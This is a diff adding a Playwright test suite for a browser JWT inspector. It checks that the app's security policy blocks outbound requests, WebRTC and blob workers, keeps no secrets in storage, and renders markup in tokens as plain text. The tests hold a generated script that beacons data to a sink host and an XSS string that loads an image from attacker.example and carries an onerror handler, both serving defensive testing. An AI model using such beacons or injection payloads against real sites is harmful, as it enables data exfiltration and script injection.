@@ -1,0 +1,132 @@
+import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { Page } from '@playwright/test';
+import { serve } from '../scripts/serve.mjs';
+import { expect, ready, test } from './support/app.ts';
+import { arm, pageAttempts, targetOf, tryInPage, tryInWorker, workerAttempts } from './support/attempts.ts';
+import { openSink, type Sink } from './support/sink.ts';
+
+const dist = fileURLToPath(new URL('../dist', import.meta.url));
+
+/** How long a request that was not refused may take to be seen. */
+const grace = 2_000;
+
+/** Served beside the page: even a script of its own host must not start as a worker, where no policy would hold. */
+const hostileScript = (sink: Sink): string => `fetch('http://${sink.host}/hit/' + location.search.slice(1));`;
+
+type Site = { readonly url: string; readonly sink: Sink; close(): Promise<void> };
+
+/** The build, a page without any policy and a hostile script on one host, and a sink on another. */
+async function openSite(): Promise<Site> {
+  const folder = await mkdtemp(join(tmpdir(), 'jotscope-'));
+  const sink = await openSink();
+  await cp(dist, folder, { recursive: true });
+  await writeFile(join(folder, 'hostile.js'), hostileScript(sink));
+  await writeFile(join(folder, 'plain.html'), '<!doctype html><html lang="en"><title>No policy</title><body></body></html>');
+  const server = await serve({ root: folder });
+  const close = async (): Promise<void> => {
+    await Promise.all([server.close(), sink.close()]);
+    await rm(folder, { recursive: true });
+  };
+  return { url: server.url, sink, close };
+}
+
+const it = test.extend<{ site: Site }>({
+  site: async ({}, use) => {
+    const site = await openSite();
+    await use(site);
+    await site.close();
+  },
+});
+
+async function openArmed(page: Page, url: string): Promise<void> {
+  await arm(page);
+  await page.goto(url);
+  if (!url.endsWith('plain.html')) await ready(page);
+}
+
+it('reaches other hosts by every one of these ways where no policy forbids it (so the sink does count)', async ({ page, site, browserName }) => {
+  const target = targetOf(site.sink, `${site.url}hostile.js`);
+  await openArmed(page, `${site.url}plain.html`);
+  await tryInPage(page, target);
+  expect(await tryInWorker(page, target)).toBe('tried');
+  // Firefox prefetches when it sees fit, and its remote-driven form asks no STUN server.
+  const firefoxOmits = ['prefetch', 'udp'];
+  const everything = [...pageAttempts, ...workerAttempts.map((name) => `worker/${name}`), 'udp'];
+  const all = browserName === 'firefox' ? everything.filter((name) => !firefoxOmits.includes(name)) : everything;
+  await expect.poll(() => all.filter((name) => !site.sink.hits.has(name)), { timeout: 20_000 }).toEqual([]);
+});
+
+it('reaches no other host by any of them from inside the page', async ({ page, site }) => {
+  await openArmed(page, site.url);
+  await tryInPage(page, targetOf(site.sink, `${site.url}hostile.js`));
+  await page.waitForTimeout(grace);
+  expect([...site.sink.hits]).toEqual([]);
+  await fetch(`http://${site.sink.host}/hit/control`);
+  expect([...site.sink.hits]).toEqual(['control']);
+});
+
+it('reaches no other host from inside a worker of the page', async ({ page, site }) => {
+  await openArmed(page, site.url);
+  expect(await tryInWorker(page, targetOf(site.sink, `${site.url}hostile.js`))).toBe('tried');
+  await page.waitForTimeout(grace);
+  expect([...site.sink.hits]).toEqual([]);
+});
+
+it('has no WebRTC, which no policy can forbid', async ({ page }) => {
+  await page.goto('./');
+  await ready(page);
+  expect(await page.evaluate(() => ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in window))).toEqual([]);
+});
+
+it('connects to its own host no more than to others', async ({ page }) => {
+  await page.goto('./');
+  await ready(page);
+  const answer = await page.evaluate(() => fetch('./index.html').then(() => 'answered', () => 'refused'));
+  expect(answer).toBe('refused');
+});
+
+it('starts no worker from a plain string', async ({ page }) => {
+  await page.goto('./');
+  await ready(page);
+  const answer = await page.evaluate(() => {
+    try {
+      new Worker(URL.createObjectURL(new Blob([''])));
+      return 'started';
+    } catch (error) {
+      return error instanceof Error ? error.name : 'thrown';
+    }
+  });
+  expect(answer).toBe('TypeError');
+});
+
+const token = 'eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
+
+test('keeps nothing but settings, and no cookies, after a session', async ({ app, context }) => {
+  await app.open();
+  await app.paste('Encoded token', token);
+  await app.paste('Key', 'a-secret-that-nobody-else-has-00');
+  await app.editor('Payload').press('ControlOrMeta+End');
+  await app.type('Payload', ' ');
+  const kept = await app.page.evaluate(async () => ({
+    device: Object.keys(localStorage).filter((name) => name !== 'jotscope.settings'),
+    tab: Object.keys(sessionStorage),
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    caches: await caches.keys(),
+    settings: localStorage.getItem('jotscope.settings') ?? '',
+  }));
+  expect(kept).toMatchObject({ device: [], tab: [], databases: [], caches: [] });
+  expect(kept.settings).not.toContain('a-secret-that-nobody-else-has-00');
+  expect(kept.settings).not.toContain('eyJ');
+  expect(await context.cookies()).toEqual([]);
+});
+
+test('shows markup in a token as the characters it is', async ({ app }) => {
+  const alg = '![x](https://attacker.example/p.png)<img src=x onerror=alert(1)>';
+  const header = Buffer.from(JSON.stringify({ alg })).toString('base64url');
+  await app.open(`#token=${header}.e30.AA`);
+  expect(await app.textOf('Header')).toContain(alg);
+  expect(await app.page.locator('img').count()).toBe(0);
+});
